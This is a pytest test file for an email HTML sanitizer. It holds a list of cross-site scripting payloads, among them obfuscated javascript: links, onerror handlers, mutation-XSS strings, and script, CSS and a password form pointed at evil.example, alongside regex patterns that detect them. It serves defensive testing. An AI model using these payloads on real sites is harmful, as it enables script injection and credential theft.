"""Mail HTML is shown inside our pages: every known way to run code or leak must come out harmless."""

import re

import pytest

from channels.email.parsing import parse_email
from channels.email.sanitize import has_remote_images, html_for_display, sanitize_html

XSS_VECTORS = [
    '<script>alert("x")</script>',
    "<SCRIPT SRC=https://evil.example/x.js></SCRIPT>",
    '<img src="x" onerror="alert(1)">',
    "<img src=x onerror=alert(1)//",
    '<svg onload="alert(1)"><circle r="10"/></svg>',
    "<svg><script>alert(1)</script></svg>",
    '<a href="javascript:alert(1)">click</a>',
    '<a href="JaVaScRiPt:alert(1)">click</a>',
    '<a href="java&#x09;script:alert(1)">click</a>',
    '<a href="&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;alert(1)">click</a>',
    '<a href="  javascript:alert(1)">click</a>',
    '<a href="vbscript:msgbox(1)">click</a>',
    '<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">click</a>',
    '<img src="data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+">',
    '<iframe src="https://evil.example"></iframe>',
    '<object data="https://evil.example/x.swf"></object>',
    '<embed src="https://evil.example/x.swf">',
    '<form action="https://evil.example/login"><input name="password"><button>Log in</button></form>',
    '<p style="width: expression(alert(1))">x</p>',
    '<p style="background-image: url(https://evil.example/track.gif)">x</p>',
    '<p style="behavior: url(x.htc)">x</p>',
    '<p style="color: red; position: fixed; top: 0; left: 0">x</p>',
    "<style>@import url(https://evil.example/x.css); body { background: red }</style>",
    '<meta http-equiv="refresh" content="0;url=https://evil.example">',
    '<base href="https://evil.example/">',
    '<link rel="stylesheet" href="https://evil.example/x.css">',
    '<body onload="alert(1)">text</body>',
    '<div onmouseover="alert(1)">hover</div>',
    '<a href="/admin/">relative link into our own site</a>',
    '<img src="/api/tickets/1/delete">',
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
    '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
]

_FORBIDDEN = [
    re.compile(r"<\s*(script|iframe|object|embed|form|input|button|svg|math|style|meta|base|link)\b", re.I),
    re.compile(r"\son\w+\s*=", re.I),
    re.compile(r"(javascript|vbscript|data):", re.I),
    re.compile(r"expression\s*\(|url\s*\(|@import|behavior|position", re.I),
    re.compile(r'(href|src)="/', re.I),
]


@pytest.mark.parametrize("vector", XSS_VECTORS)
def test_xss_vectors_come_out_harmless(vector):
    # given a known attack in mail HTML
    # when it is sanitized
    clean = sanitize_html(f"<p>before</p>{vector}<p>after</p>")

    # then nothing executable or leaking is left, and the text before it survives
    for pattern in _FORBIDDEN:
        assert not pattern.search(clean), (pattern.pattern, clean)
    assert clean.startswith("<p>before</p>")


def test_safe_formatting_is_kept_and_links_are_hardened():
    # given ordinary formatted mail HTML
    html = (
        '<p style="color: #c00; font-weight: bold">Важно</p><table border="1"><tr><td colspan="2">ячейка</td></tr>'
        '</table><a href="https://example.org/doc">документ</a>'
    )

    # when sanitized
    clean = sanitize_html(html)

    # then formatting stays, and the link opens apart from our page without referrer
    assert clean == (
        '<p style="color:#c00;font-weight:bold">Важно</p><table border="1"><tbody><tr><td colspan="2">ячейка</td>'
        '</tr></tbody></table><a href="https://example.org/doc" target="_blank" rel="noopener noreferrer nofollow">'
        "документ</a>"
    )


def test_remote_images_are_detected():
    # given HTML with a tracking pixel and HTML with only a cid image
    # when checked
    # then only the first loads from the network
    assert has_remote_images(sanitize_html('<img src="https://t.example/p.gif?u=1">')) is True
    assert has_remote_images(sanitize_html('<img src="cid:logo@x">')) is False


def test_display_points_cid_images_at_our_urls_and_holds_back_remote_ones():
    # given stored HTML with an inline image and a remote one
    html = sanitize_html('<p>Фото:</p><img src="cid:Image001.PNG@01DB9370"><img src="https://t.example/p.gif?a=1&b=2">')

    # when prepared for display without remote images
    shown = html_for_display(html, show_remote_images=False, cid_urls={"image001.png@01db9370": "/att/5/"})

    # then the cid points at our URL and the remote image is blanked, its address kept for the button
    assert shown == (
        '<p>Фото:</p><img src="/att/5/"><img src="" data-remote-src="https://t.example/p.gif?a=1&amp;b=2">'
    )


def test_display_shows_remote_images_on_request():
    # given stored HTML with a remote image
    html = sanitize_html('<img src="https://t.example/p.gif">')

    # when the agent asked to show images
    shown = html_for_display(html, show_remote_images=True, cid_urls={})

    # then it is left as it is
    assert shown == '<img src="https://t.example/p.gif">'


def test_display_escapes_the_urls_it_puts_in():
    # given a cid URL with characters that mean something in HTML
    html = sanitize_html('<img src="cid:a@b">')

    # when displayed
    shown = html_for_display(html, show_remote_images=False, cid_urls={"<a@b>": '/att/1/?x="><script>'})

    # then the URL cannot break out of its attribute
    assert shown == '<img src="/att/1/?x=&quot;&gt;&lt;script&gt;">'


def test_display_sanitizes_whatever_it_is_given():
    # given unsanitized HTML (a caller's mistake)
    # when displayed
    shown = html_for_display(
        "<img src=x onerror=alert(1)><script>alert(2)</script>", show_remote_images=True, cid_urls={}
    )

    # then it is made safe anyway (a relative src would point into our own site: dropped too)
    assert shown == "<img>"


def test_parsed_mail_reports_remote_images():
    # given a newsletter-like mail with a remote image
    raw = (
        b"From: a@example.org\r\nSubject: x\r\nContent-Type: text/html; charset=utf-8\r\n\r\n"
        b'<p>Hello</p><img src="http://t.example/open.gif" width="1" height="1">'
    )

    # when parsed
    parsed = parse_email(raw)

    # then the flag is set and the image kept for the "show images" button
    assert parsed.has_remote_images is True
    assert parsed.html == '<p>Hello</p><img src="http://t.example/open.gif" width="1" height="1">'
